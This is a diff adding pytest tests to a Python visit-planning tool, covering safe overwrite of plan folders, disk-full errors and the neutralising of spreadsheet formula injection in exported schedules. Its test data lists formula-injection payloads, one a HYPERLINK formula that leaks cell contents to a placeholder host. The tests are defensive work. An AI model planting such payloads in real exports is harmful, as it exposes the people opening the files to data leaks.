@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import datetime as dt
 import json
+import os
 from pathlib import Path
 
 import geopandas as gpd
@@ -132,7 +133,15 @@ def test_plan_dir_round_trip(tmp_path: Path) -> None:
         plan, tmp_path / "plan", extra_files={"map.html": "<html>地图</html>", "img/logo.png": b"\x89PNG"}
     )
     names = sorted(p.name for p in out.iterdir())
-    assert names == ["img", "map.html", "plan.gpkg", "schedule.csv", "schedule.xlsx", "summary.json"]
+    assert names == [
+        ".planner-plan",
+        "img",
+        "map.html",
+        "plan.gpkg",
+        "schedule.csv",
+        "schedule.xlsx",
+        "summary.json",
+    ]
     assert (out / "map.html").read_text(encoding="utf-8") == "<html>地图</html>"
     assert (out / "img" / "logo.png").read_bytes() == b"\x89PNG"
     layers = {str(n) for n, _ in pyogrio.list_layers(out / "plan.gpkg")}
@@ -278,3 +287,113 @@ def test_bad_extra_file_name_and_missing_column_write_nothing(tmp_path: Path) ->
     with pytest.raises(ValidationError, match=r"'villages' lacks column\(s\) access"):
         write_plan_dir(broken, tmp_path / "plan")
     assert list(tmp_path.iterdir()) == []
+
+
+def test_overwrite_replaces_only_a_plan_directory(tmp_path: Path) -> None:
+    """overwrite replaces a directory carrying the marker, or a 0.1 plan holding only plan files; a folder
+    with anything else is refused and kept, even with overwrite."""
+    from planner.io.files import PLAN_MARKER
+
+    out = write_plan_dir(_plan(), tmp_path / "plan")
+    assert (out / PLAN_MARKER).is_file()
+    write_plan_dir(_plan(), out, overwrite=True)
+    (out / PLAN_MARKER).unlink()  # a plan of planner 0.1: no marker, only plan files
+    write_plan_dir(_plan(), out, overwrite=True)
+    assert (out / PLAN_MARKER).is_file()
+    (out / PLAN_MARKER).unlink()
+    (out / "letter.docx").write_bytes(b"mine")
+    with pytest.raises(ValidationError, match=r"not a planner plan \(letter.docx\)"):
+        write_plan_dir(_plan(), out, overwrite=True)
+    assert (out / "letter.docx").read_bytes() == b"mine"
+    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]
+
+
+HOSTILE = [
+    "=1+1",
+    '=HYPERLINK("http://x.example/?"&A1,"click")',
+    "+1",
+    "-V1",
+    "@SUM(A1)",
+    "\tP",
+    "\rP",
+    "P;=1+1",
+]
+
+
+def _hostile_plan() -> PlanData:
+    """The small plan with officer and village ids that a spreadsheet would run as formulas."""
+    plan = _plan(with_current=False)
+    n = len(HOSTILE)
+    schedule = pd.DataFrame(
+        {
+            "officer_id": HOSTILE,
+            "date": ["2026-12-01"] * n,
+            "start": ["08:00"] * n,
+            "end": ["09:00"] * n,
+            "village_id": list(reversed(HOSTILE)),
+            "activity": ["visit"] * n,
+            "minutes": [-2.5, *([60.0] * (n - 1))],
+        }
+    )
+    return PlanData(
+        villages=plan.villages,
+        districts=plan.districts,
+        offices=plan.offices,
+        summary=plan.summary,
+        routes=plan.routes,
+        schedule=schedule,
+    )
+
+
+def test_schedule_cells_that_look_like_formulas_are_neutralised(tmp_path: Path) -> None:
+    """Text cells beginning with = + - @ tab or CR get a leading ' in schedule.csv and schedule.xlsx (OWASP),
+    every text cell of the CSV is quoted then, numbers stay numbers, and the plan reads back unchanged."""
+    out = write_plan_dir(_hostile_plan(), tmp_path / "plan")
+    text = (out / "schedule.csv").read_text(encoding="utf-8-sig")
+    assert '"\'=1+1"' in text and '"\'@SUM(A1)"' in text and '"\'-V1"' in text
+    assert ",-2.5\n" in text.replace("\r\n", "\n")  # a negative number is a number, not text to neutralise
+    rows = pd.read_csv(out / "schedule.csv", dtype=str, keep_default_na=False, encoding="utf-8-sig")
+    for col in ("officer_id", "village_id"):
+        assert not rows[col].str.startswith(("=", "+", "-", "@", "\t", "\r")).any(), rows[col].tolist()
+    book = openpyxl.load_workbook(out / "schedule.xlsx")
+    for ws in book.worksheets:
+        assert not ws.title.startswith(("=", "+", "-", "@")) and not set(ws.title) & set("[]:*?/\\\t\r")
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
+                if isinstance(cell.value, str):
+                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
+    assert book["all"]["G2"].value == -2.5
+    back = read_plan_dir(out)
+    assert back.schedule["officer_id"].tolist() == HOSTILE
+    assert back.schedule["village_id"].tolist() == list(reversed(HOSTILE))
+
+
+def test_plain_schedule_csv_is_written_as_before(tmp_path: Path) -> None:
+    """A schedule with no cell to neutralise is written exactly as pandas writes it (the demo's bytes stay)."""
+    plan = _plan(with_current=False)
+    out = write_plan_dir(plan, tmp_path / "plan")
+    expected = plan.schedule.assign(date=plan.schedule["date"].map(lambda d: d.isoformat()))
+    assert (out / "schedule.csv").read_bytes() == expected.to_csv(index=False).encode("utf-8-sig").replace(
+        b"\n", os.linesep.encode()
+    )
+
+
+def test_full_disk_while_writing_is_an_input_error_and_keeps_the_old_plan(
+    tmp_path: Path, monkeypatch
+) -> None:
+    """ENOSPC while the plan is written: a ValidationError naming --out and the fix; the old plan stays and no
+    temporary folder is left."""
+    import errno
+
+    out = write_plan_dir(_plan(), tmp_path / "plan")
+    before = sorted(p.name for p in out.iterdir())
+
+    def full(*args, **kwargs):
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr("planner.io.plan_files.write_table_csv", full)
+    with pytest.raises(ValidationError, match=r"--out .*No space left on device.*free some disk space"):
+        write_plan_dir(_plan(), out, overwrite=True)
+    assert sorted(p.name for p in out.iterdir()) == before
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan"]
